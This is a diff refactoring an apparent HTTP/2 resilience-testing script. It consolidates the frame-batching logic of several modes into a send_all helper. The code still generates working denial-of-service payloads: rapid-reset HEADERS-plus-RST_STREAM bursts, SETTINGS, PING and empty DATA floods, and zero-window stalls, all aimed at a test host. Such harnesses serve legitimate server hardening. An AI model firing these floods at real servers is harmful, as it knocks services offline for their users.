@@ -38,6 +38,17 @@ def send(data):
     except OSError:
         return False
 
+def send_all(frames):
+    """Sends frames in 64 KiB writes; reports a closed connection if a write fails."""
+    out = bytearray()
+    for frame in frames:
+        out += frame
+        if len(out) > 65536:
+            if not send(bytes(out)):
+                report({"outcome": "closed"})
+            out = bytearray()
+    send(bytes(out))
+
 def report(result):
     print(json.dumps(result))
     sys.exit(0)
@@ -76,16 +87,8 @@ def watch(seconds=8, stream=None):
 send(PREFACE + SettingsFrame(0, settings={} if mode != "zero-window" else {4: 0}).serialize())
 
 if mode == "rapid-reset":
-    out = bytearray()
-    for i in range(count):
-        sid = 1 + 2 * i
-        out += HeadersFrame(sid, request_block(), flags=["END_HEADERS", "END_STREAM"]).serialize()
-        out += RstStreamFrame(sid, error_code=8).serialize()
-        if len(out) > 65536:
-            if not send(bytes(out)):
-                report({"outcome": "closed"})
-            out = bytearray()
-    send(bytes(out))
+    send_all(HeadersFrame(1 + 2 * i, request_block(), flags=["END_HEADERS", "END_STREAM"]).serialize()
+             + RstStreamFrame(1 + 2 * i, error_code=8).serialize() for i in range(count))
     report(watch())
 elif mode == "continuation":
     block = request_block()
@@ -114,26 +117,13 @@ elif mode == "big-header":
     send(bytes(frames))
     report(watch(stream=1))
 elif mode in ("settings-flood", "ping-flood"):
-    out = bytearray()
-    for i in range(count):
-        out += (SettingsFrame(0, settings={}) if mode == "settings-flood" else PingFrame(0, opaque_data=i.to_bytes(8, "big"))).serialize()
-        if len(out) > 65536:
-            if not send(bytes(out)):
-                report({"outcome": "closed"})
-            out = bytearray()
-    send(bytes(out))
+    send_all((SettingsFrame(0, settings={}) if mode == "settings-flood" else PingFrame(0, opaque_data=i.to_bytes(8, "big"))).serialize()
+             for i in range(count))
     report(watch())
 elif mode == "empty-data":
     block = encoder.encode([(":method", "POST"), (":scheme", "http"), (":authority", "attack.test"), (":path", "/echo")])
     send(HeadersFrame(1, block, flags=["END_HEADERS"]).serialize())
-    out = bytearray()
-    for i in range(count):
-        out += DataFrame(1, b"").serialize()
-        if len(out) > 65536:
-            if not send(bytes(out)):
-                report({"outcome": "closed"})
-            out = bytearray()
-    send(bytes(out))
+    send_all(DataFrame(1, b"").serialize() for i in range(count))
     report(watch())
 elif mode == "zero-window":
     send(HeadersFrame(1, request_block("/bytes/10000000"), flags=["END_HEADERS", "END_STREAM"]).serialize())
